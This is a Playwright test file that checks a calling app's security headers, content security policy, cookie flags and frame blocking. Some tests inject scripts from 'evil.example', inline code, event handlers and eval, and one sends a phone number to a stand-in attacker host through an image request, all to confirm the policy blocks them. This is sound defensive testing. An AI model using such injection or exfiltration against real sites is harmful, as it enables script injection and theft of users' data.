// What a browser is told about every kind of answer, and what that stops.
import type { Page } from '@playwright/test';
import { type Workspace, expect, test } from '../fixtures';
import { TALKS, TONE } from '../fixtures/leads';

type Headers = Record<string, string>;

/** What every answer carries, whatever it is. */
function isGuarded(headers: Headers, what: string, referrer = 'same-origin'): void {
  expect(headers, what).toMatchObject({
    'x-content-type-options': 'nosniff',
    'x-frame-options': 'DENY',
    'referrer-policy': referrer,
    'cross-origin-opener-policy': 'same-origin',
    'cross-origin-resource-policy': 'same-origin',
    'origin-agent-cluster': '?1',
  });
  const policy = headers['content-security-policy'] ?? '';
  expect(policy, what).toMatch(/^default-src 'none'; frame-ancestors 'none'/);
  expect(policy, what).not.toMatch(/unsafe-inline|'unsafe-eval'|\*/);
  expect(headers['permissions-policy'], what).toMatch(/^microphone=\(self\).*camera=\(\)/);
  expect(headers, what).not.toHaveProperty('server');
}

/** Asks from inside the page, as its own scripts do. Only the head is waited for. */
function ask(page: Page, path: string, init: RequestInit = {}): Promise<{ status: number; headers: Headers }> {
  return page.evaluate(
    async ([path, init]) => {
      const stop = new AbortController();
      const answer = await fetch(path, { ...init, signal: stop.signal });
      const head = { status: answer.status, headers: Object.fromEntries(answer.headers) };
      stop.abort();
      return head;
    },
    [path, init] as const,
  );
}

test.describe('with answers that Chromium logs', () => {
  test.use({ tolerate: [/status of 40[0-9]/] });

  test('every page has its policy, also one that tells of a problem', async ({ page }) => {
    const app = ['/', `/workspace?item_id=${TALKS.lead}`, '/workspace?item_id=abc', '/no/such/page'];
    for (const path of [...app, '/opt-out', '/do-not-call-policy', '/sandbox']) {
      const answer = await page.goto(path);
      const headers = answer!.headers();
      isGuarded(headers, path);
      expect(headers['cache-control'], path).toBe('no-store');
      const policy = headers['content-security-policy']!;
      if (app.includes(path)) {
        expect(policy, path).toMatch(/script-src 'self' 'nonce-[\w-]{22}' 'wasm-unsafe-eval'/);
        expect(policy, path).toContain("connect-src 'self';");
      } else if (path !== '/sandbox') {
        expect(policy, path).not.toContain('script-src');
      }
    }
  });

  test('so have data, files, streams and refusals', async ({ page }) => {
    await page.goto('/');
    const post = { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{}' };
    for (const [path, init, status] of [
      ['/api/leads', post, 200],
      ['/api/dial', post, 400],
      ['/pkg/twoleg.css', {}, 200],
      ['/pkg/twoleg_bg.wasm', {}, 200],
      ['/icons.svg', {}, 200],
      [`/events/leads/${TALKS.lead}`, {}, 200],
    ] as const) {
      const { status: got, headers } = await ask(page, path, init);
      expect(got, path).toBe(status);
      isGuarded(headers, path);
      expect(headers['content-security-policy'], path).toBe("default-src 'none'; frame-ancestors 'none'");
      const isFile = /\.(css|wasm|svg)$/.test(path);
      expect(headers['cache-control'], path).toMatch(isFile ? /^no-cache$/ : /no-store|no-cache/);
    }
  });
});

test('a recording is guarded, and still opens and plays by itself', async ({ page, workspace }) => {
  const link = await recorded(page, workspace);
  const { headers } = await ask(page, link);
  // A link that holds a key is told to nobody at all.
  isGuarded(headers, 'a recording', 'no-referrer');
  expect(headers['cache-control']).toContain('no-store');

  const alone = await page.context().newPage();
  await alone.goto(link);
  const player = alone.locator('video, audio');
  await expect.poll(() => player.evaluate((media: HTMLMediaElement) => media.duration)).toBeGreaterThan(1);
});

test('cookies of ours are for the server alone', async ({ page, context, workspace }) => {
  await workspace.open(TALKS);
  for (const cookie of (await context.cookies()).filter(({ name }) => /^(__Host-)?twoleg/.test(name))) {
    expect(cookie, cookie.name).toMatchObject({ httpOnly: true, path: '/' });
    expect(['Lax', 'Strict'], cookie.name).toContain(cookie.sameSite);
  }
  expect(await page.evaluate(() => document.cookie), 'what a script can read').not.toMatch(/twoleg/);
});

test.describe('with what a policy stops', () => {
  // One pattern: Playwright takes a list whose second entry is an object for a value with its options.
  test.use({ tolerate: [/^securitypolicyviolation|Content[- ]Security[- ]Policy|Trusted ?(Script|Type)/] });

  test('script that somebody brought into the page does not run', async ({ page, workspace }) => {
    await workspace.open(TALKS);
    expect(await bringScript(page)).toEqual([]);
  });

  test('what was stopped is told to the server', async ({ page, server }) => {
    await page.goto('/opt-out');
    await page.evaluate(() => {
      const picture = document.createElement('img');
      picture.src = 'https://evil.example/?number=8135550142';
      document.body.append(picture);
    });
    await expect.poll(() => server.cspReports()).toBeGreaterThan(0);
    expect(server.log).toContain('img-src');
    expect(server.log).not.toContain('8135550142');
  });

  test('no other page can show ours in a frame', async ({ page, server }) => {
    const stranger = 'http://localhost:9/';
    await page.route(stranger, (route) =>
      route.fulfill({ contentType: 'text/html', body: `<iframe src="${server.origin}/do-not-call-policy"></iframe>` }),
    );
    await page.goto(stranger);
    await expect.poll(() => page.frames().map((frame) => frame.url())).toEqual([stranger, 'chrome-error://chromewebdata/']);
  });
});

test.describe('without any policy', () => {
  // Chromium logs the host that is not there.
  test.use({ bypassCSP: true, tolerate: [/ERR_NAME_NOT_RESOLVED/] });

  test('the same script would run', async ({ page, workspace }) => {
    await workspace.open(TALKS);
    expect(await bringScript(page)).toEqual(['eval', 'handler', 'inline', 'timer']);
  });
});

/** Tries what script that came in with somebody's text would try; answers which of it ran. */
function bringScript(page: Page): Promise<string[]> {
  return page.evaluate(async () => {
    const ran = new Set<string>();
    addEventListener('ran', (event) => ran.add((event as CustomEvent<string>).detail));
    const says = (what: string) => `window.dispatchEvent(new CustomEvent('ran', { detail: '${what}' }))`;
    const tries = [
      () => {
        const script = document.createElement('script');
        script.append(says('inline'));
        document.head.append(script);
      },
      () => {
        const script = document.createElement('script');
        script.src = 'https://evil.example/x.js';
        document.head.append(script);
      },
      () => {
        document.body.insertAdjacentHTML('beforeend', `<button id="brought" onclick="${says('handler')}">`);
        document.getElementById('brought')?.click();
      },
      () => (0, eval)(says('eval')),
      () => setTimeout(says('timer') as unknown as () => void),
    ];
    for (const attempt of tries) {
      // Each in a turn of its own: what a debugger runs at once is above the policy.
      await new Promise<void>((next) =>
        setTimeout(() => {
          next();
          try {
            attempt();
          } catch {
            // Trusted Types throw where the policy alone would only stop.
          }
        }),
      );
    }
    await new Promise((next) => setTimeout(next, 1_000));
    return [...ran].sort();
  });
}

/** Calls the one who plays a tone, and answers the link of the recording. */
async function recorded(page: Page, workspace: Workspace): Promise<string> {
  await workspace.callAndTalk(TONE);
  await workspace.talkFor(3);
  await workspace.hangUp();
  await expect(workspace.player).toBeVisible();
  return page.getByLabel('Recording of this call').evaluate((audio: HTMLAudioElement) => audio.src);
}
